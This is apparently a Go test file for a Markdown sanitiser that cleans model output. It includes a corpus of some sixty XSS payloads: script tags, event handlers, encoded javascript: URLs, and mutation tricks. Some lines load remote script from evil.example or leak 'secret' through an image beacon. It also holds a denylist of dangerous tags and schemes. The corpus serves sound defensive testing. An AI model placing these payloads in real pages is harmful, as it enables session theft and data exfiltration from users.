package sanitize

import (
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/rampart-dev/rampart/internal/rampart"
	"golang.org/x/net/html"
)

// xssCorpus is hostile model output: what a prompt injection would make a
// model write, in Markdown and in raw HTML.
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	"<scr<script>ipt>alert(1)</script>",
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<svg onload=alert(1)><circle r=1></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)"></object><embed src=javascript:alert(1)>`,
	`<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>go</button></form>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p style="width: expression(alert(1))">x</p>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
	`<a href="&#x6A;avascript&#x3A;alert(1)">click</a>`,
	`<a href=" javascript:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>ok</a>`,
	`<a href='https://ok.example' style='color:red' class=x id=y>ok</a>`,
	`<b onmouseover="alert(1)">hover</b>`,
	`<p><b>unclosed <i>tags <a href="https://ok.example">link`,
	`<a href="https://ok.example/"onclick="alert(1)">nested quotes</a>`,
	`<a title='"><script>alert(1)</script>' href="https://ok.example">q</a>`,
	`<<script>script>alert(1)<</script>/script>`,
	`<!-- <script>alert(1)</script> -->`,
	`<base href="javascript:/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<body onload=alert(1)>`,
	"[click](javascript:alert(1))",
	"[click](JAVASCRIPT:alert(1))",
	"[click](javascript&#58;alert(1))",
	"[click](&#x6A;avascript:alert(1))",
	"[click](vbscript:msgbox(1))",
	"[click](data:text/html,<script>alert(1)</script>)",
	"[click](<javascript:alert(1)>)",
	`[click](https://ok.example "title" onclick="alert(1)")`,
	"[ref]\n\n[ref]: javascript:alert(1)",
	"<javascript:alert(1)>",
	"<https://ok.example/?q=<script>>",
	"![x](javascript:alert(1))",
	"![x](https://evil.example/beacon.png?d=secret)",
	"![x](data:image/png;base64,iVBORw0KGgo=)",
	"# Title\n\n<div onclick=\"alert(1)\">\n*markdown inside raw html*\n</div>",
	"Inline <span onclick=alert(1)>html</span> in a paragraph.",
	"```html\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
	"> <iframe src=https://evil.example>",
	"Write javascript:alert(1) in the address bar.",
	"<a href=\"https://ok.example\">fine</a><a href=\"//evil.example\">protocol-relative</a><a href=\"/relative\">relative</a>",
	"<a href=\"http://plain.example\">http</a>",
}

// checkSafe asserts the structural and textual safety properties of out.
func checkSafe(t testing.TB, in, out string) {
	t.Helper()
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "javascript:", "vbscript:", "<iframe", "<style", "<img", "<svg", "<math", "<form", "<object", "<embed"} {
		if strings.Contains(lower, bad) {
			t.Errorf("%q → %q contains %q", in, out, bad)
		}
	}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt == html.CommentToken || tt == html.DoctypeToken {
			t.Errorf("%q → %q keeps a %v", in, out, tt)
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken && tt != html.EndTagToken {
			continue
		}
		tok := z.Token()
		if !slices.Contains(allowedElements, tok.Data) {
			t.Errorf("%q → %q keeps element %q", in, out, tok.Data)
		}
		for _, a := range tok.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "class" || a.Key == "id" || a.Key == "src":
				t.Errorf("%q → %q keeps attribute %s", in, out, a.Key)
			case a.Key == "href" && tok.Data == "a":
				u, err := url.Parse(a.Val)
				if err != nil || (u.Scheme != "https" && u.Scheme != "mailto") {
					t.Errorf("%q → %q keeps href %q", in, out, a.Val)
				}
			case a.Key == "rel" || a.Key == "target" && tok.Data == "a":
			case a.Key == "align" && (tok.Data == "th" || tok.Data == "td"):
			default:
				t.Errorf("%q → %q keeps attribute %s on %s", in, out, a.Key, tok.Data)
			}
		}
	}
}

func TestXSSCorpus(t *testing.T) {
	t.Parallel()
	for _, in := range xssCorpus {
		t.Run(in, func(t *testing.T) {
			t.Parallel()
			h, err := Markdown(in)
			if err != nil {
				t.Fatal(err)
			}
			checkSafe(t, in, h.String())
			// The same text as stored HTML, never rendered from Markdown.
			checkSafe(t, in, Resanitize(in).String())
		})
	}
}

func TestBenignMarkdown(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"headings", "# One\n## Two\n### Three\n#### Four", "<h1>One</h1>\n<h2>Two</h2>\n<h3>Three</h3>\n<h4>Four</h4>"},
		{"deep heading keeps text", "##### Five\nbody", "Five \n<p>body</p>"},
		{"emphasis", "*em* _em_ **strong** ~~gone~~ `code`", "<p><em>em</em> <em>em</em> <strong>strong</strong> <del>gone</del> <code>code</code></p>"},
		{"lists", "- a\n- b\n\n1. one\n2. two", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol>\n<li>one</li>\n<li>two</li>\n</ol>"},
		{"table", "| Item | Qty |\n|:-----|----:|\n| Line array | 12 |",
			"<table>\n<thead>\n<tr>\n<th align=\"left\">Item</th>\n<th align=\"right\">Qty</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">Line array</td>\n<td align=\"right\">12</td>\n</tr>\n</tbody>\n</table>"},
		{"code block", "```go\nx := 1 < 2\n```", "<pre><code>x := 1 &lt; 2\n</code></pre>"},
		{"quote and rule", "> note\n\n---", "<blockquote>\n<p>note</p>\n</blockquote>\n<hr>"},
		{"https link", "[venue](https://venue.example/map)",
			`<p><a href="https://venue.example/map" rel="nofollow noreferrer noopener" target="_blank">venue</a></p>`},
		{"mailto link", "[mail](mailto:events@example.com)", `<p><a href="mailto:events@example.com" rel="nofollow noreferrer">mail</a></p>`},
		{"autolink", "<https://venue.example>",
			`<p><a href="https://venue.example" rel="nofollow noreferrer noopener" target="_blank">https://venue.example</a></p>`},
		{"http link dropped", "[old](http://venue.example)", "<p> old </p>"},
		{"hard break", "line one  \nline two", "<p>line one<br>\nline two</p>"},
		{"entities", `Fish & chips "for" 'all' <3`, "<p>Fish &amp; chips &#34;for&#34; &#39;all&#39; &lt;3</p>"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h, err := Markdown(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if h.String() != tt.want {
				t.Errorf("Markdown(%q)\n got %q\nwant %q", tt.in, h.String(), tt.want)
			}
			checkSafe(t, tt.in, h.String())
		})
	}
}

func TestResanitizeIsIdempotent(t *testing.T) {
	t.Parallel()
	inputs := append([]string{
		"# Plan\n\n| a | b |\n|:-:|---|\n| 1 | [x](https://a.example/?q=1&r=2) |\n\n*done* & \"quoted\"",
		"Write javascript: here",
	}, xssCorpus...)
	for _, in := range inputs {
		h, err := Markdown(in)
		if err != nil {
			t.Fatal(err)
		}
		if again := Resanitize(h.String()); again != h {
			t.Errorf("Resanitize changed Markdown(%q):\n%q\n%q", in, h.String(), again.String())
		}
		once := Resanitize(in)
		if twice := Resanitize(once.String()); twice != once {
			t.Errorf("Resanitize is not idempotent on %q:\n%q\n%q", in, once.String(), twice.String())
		}
	}
}

func TestSizeCap(t *testing.T) {
	t.Parallel()
	if _, err := Markdown(strings.Repeat("a", MaxMarkdownBytes)); err != nil {
		t.Fatalf("at the limit: %v", err)
	}
	_, err := Markdown(strings.Repeat("a", MaxMarkdownBytes+1))
	var e *rampart.Error
	if !errors.As(err, &e) || e.Kind != rampart.KindTooLarge || !strings.Contains(err.Error(), "204800-byte (200 KiB) limit") {
		t.Errorf("over the limit: %v, want a KindTooLarge error naming the limit", err)
	}
}

func TestZeroHTML(t *testing.T) {
	t.Parallel()
	var h HTML
	if h.String() != "" {
		t.Errorf("zero HTML renders %q", h.String())
	}
}

func TestStreamGate(t *testing.T) {
	t.Parallel()
	t.Run("whole text only", func(t *testing.T) {
		t.Parallel()
		var g StreamGate
		chunks := []string{"# Pro", "posal\n\n<scr", "ipt>alert(1)</script>", " [x](java", "script:alert(1)) **done**"}
		for _, c := range chunks {
			g.Write(c)
		}
		if g.Len() != len(strings.Join(chunks, "")) {
			t.Errorf("Len %d", g.Len())
		}
		h, err := g.Finish()
		if err != nil {
			t.Fatal(err)
		}
		want, _ := Markdown(strings.Join(chunks, ""))
		if h != want {
			t.Errorf("Finish %q, want %q", h.String(), want.String())
		}
		checkSafe(t, "stream", h.String())
		if _, err := g.Finish(); rampart.ErrorKind(err) != rampart.KindConflict {
			t.Errorf("second Finish: %v, want KindConflict", err)
		}
		g.Write("more") // dropped
	})
	t.Run("over the cap fails closed", func(t *testing.T) {
		t.Parallel()
		var g StreamGate
		for range MaxMarkdownBytes/1024 + 1 {
			g.Write(strings.Repeat("x", 1024))
		}
		h, err := g.Finish()
		if rampart.ErrorKind(err) != rampart.KindTooLarge || h.String() != "" {
			t.Errorf("Finish %q, %v; want nothing and KindTooLarge", h.String(), err)
		}
	})
	t.Run("concurrent writers", func(t *testing.T) {
		t.Parallel()
		var g StreamGate
		var wg sync.WaitGroup
		for range 8 {
			wg.Go(func() {
				for range 100 {
					g.Write("a")
					_ = g.Len()
				}
			})
		}
		wg.Wait()
		h, err := g.Finish()
		if err != nil || h.String() != "<p>"+strings.Repeat("a", 800)+"</p>" {
			t.Errorf("Finish %q, %v", h.String(), err)
		}
	})
}

func ExampleMarkdown() {
	h, _ := Markdown("**Gala** at [the venue](https://venue.example) <script>alert(1)</script>")
	fmt.Println(h)
	// Output:
	// <p><strong>Gala</strong> at <a href="https://venue.example" rel="nofollow noreferrer noopener" target="_blank">the venue</a> alert(1)</p>
}
